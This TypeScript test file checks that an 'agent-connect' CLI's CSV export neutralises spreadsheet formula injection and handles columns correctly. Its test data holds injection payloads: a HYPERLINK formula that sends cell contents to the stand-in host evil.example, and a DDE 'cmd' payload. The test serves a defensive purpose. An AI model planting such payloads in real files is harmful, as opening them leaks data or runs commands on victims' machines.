import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import { createCompany, createEmployee } from '../helpers/factories.ts';
import { createListeningTestContext, type TestContext } from '../helpers/test-app.ts';

const exec = promisify(execFile);
let ctx: TestContext;
let baseUrl: string;
before(async () => {
  ({ ctx, baseUrl } = await createListeningTestContext());
});
after(() => ctx.close());

/** RFC 4180 records and cells (the test's own reader, independent of the exporter). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(cell), (cell = '');
    else if (char === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += char;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\tTAB', '\rCR'];

describe('agent-connect export --format csv', () => {
  let company: Awaited<ReturnType<typeof createCompany>>;
  let args: string[];
  let env: NodeJS.ProcessEnv;
  let dir: string;
  before(async () => {
    company = await createCompany(ctx.services, { brands: ['solo'] });
    const agent = await createEmployee(ctx.services, company.id);
    const post = (payload: Record<string, unknown>) =>
      ctx.as(company).post('/v1/requests', { employee: { email: agent.email }, channel: 'chat', do_not_send: true, ...payload });
    for (const [i, name] of FORMULAS.entries()) {
      const response = await post({ customer: { email: `f${i}@example.com`, name }, tags: [name, 'a|b', 'c'], custom_properties: { order: '-15', note: name } });
      assert.equal(response.statusCode, 200, response.body);
    }
    await post({ customer: { email: 'late@example.com', name: 'Late' }, custom_properties: { only_later: 'seen' } });
    args = ['bin/agent-connect.js', 'export', 'feedback', '--url', baseUrl, '--api-key', company.api_key, '--api-secret', company.api_secret, '--format', 'csv'];
    env = { ...process.env, ...ctx.env };
    dir = fs.mkdtempSync(path.join(ctx.database.dataDir, 'csv-'));
  });

  it('neutralises formula cells with a quote, quoted, and leaves numbers alone', async () => {
    const { stdout } = await exec(process.execPath, args, { env });
    const [header, ...rows] = parseCsv(stdout);
    const column = (name: string) => header.indexOf(name);
    for (const [i, formula] of FORMULAS.entries()) {
      if (formula.trim() === formula) assert.equal(rows[i][column('customer.full_name')], `'${formula}`, 'shown as text');
      assert.equal(rows[i][column('custom_properties.note')], `'${formula}`);
      assert.equal(rows[i][column('custom_properties.order')], '-15', 'a plain negative number is not altered');
    }
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/, `cell ${JSON.stringify(cell)} starts a formula`);
    assert.ok(stdout.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'the neutralised cell is quoted');
    assert.ok(stdout.includes(`"'@SUM(1)"`), 'quoted even without a comma or quote in it');
  });

  it('has the columns of every record and unambiguous list cells', async () => {
    const { stdout } = await exec(process.execPath, args, { env });
    const [header, ...rows] = parseCsv(stdout);
    assert.ok(header.includes('custom_properties.only_later'), 'a column only the last record has');
    assert.equal(rows.at(-1)![header.indexOf('custom_properties.only_later')], 'seen');
    assert.equal(rows[0][header.indexOf('custom_properties.only_later')], '');
    for (const row of rows) assert.equal(row.length, header.length);
    assert.deepEqual(JSON.parse(rows[1][header.indexOf('tags')]), [FORMULAS[1], 'a|b', 'c'], 'a tag holding | stays one tag');
  });

  it('resumes into a file, widening it when later records bring new columns', async () => {
    const out = path.join(dir, 'feedback.csv');
    const state = path.join(dir, 'state.json');
    await exec(process.execPath, [...args, '--out', out, '--state', state], { env });
    const agent = await createEmployee(ctx.services, company.id);
    const more = await ctx.as(company).post('/v1/requests', { employee: { email: agent.email }, customer: { email: 'new@example.com', name: '=1+1' }, channel: 'chat', do_not_send: true, custom_properties: { brand_new: 'x,"y"\nz' } });
    assert.equal(more.statusCode, 200, more.body);
    await exec(process.execPath, [...args, '--out', out, '--state', state], { env });
    const [header, ...rows] = parseCsv(fs.readFileSync(out, 'utf8'));
    assert.equal(rows.length, FORMULAS.length + 2, 'every record once');
    assert.ok(header.includes('custom_properties.brand_new') && header.includes('custom_properties.only_later'));
    for (const row of rows) assert.equal(row.length, header.length, 'earlier rows padded to the new header');
    assert.equal(rows.at(-1)![header.indexOf('custom_properties.brand_new')], 'x,"y"\nz');
    assert.equal(rows.at(-1)![header.indexOf('customer.full_name')], "'=1+1");
    assert.equal(rows[0][header.indexOf('customer.full_name')], `'${FORMULAS[0]}`, 'earlier rows kept as they were');
  });
});
